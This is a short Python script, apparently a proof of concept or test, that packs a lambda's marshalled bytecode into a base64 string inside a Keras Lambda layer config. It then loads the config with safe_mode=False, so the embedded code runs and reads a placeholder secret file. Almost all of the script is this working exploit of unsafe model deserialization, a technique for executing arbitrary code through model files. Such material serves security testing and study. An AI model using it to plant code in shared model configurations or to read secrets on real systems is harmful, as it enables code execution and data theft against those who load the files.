"""No file is needed: the configuration is a dict."""
import keras
import marshal
import codecs
code = (lambda x: print(open("@SECRET_FILE@").read()) or x).__code__
text = codecs.encode(marshal.dumps(code), "base64").decode()
config = {"name": "x", "function": {"class_name": "__lambda__", "config": {"code": text, "defaults": None, "closure": None}}}
layer = keras.layers.Lambda.from_config(config, safe_mode=False)
layer(keras.Input((1,)))
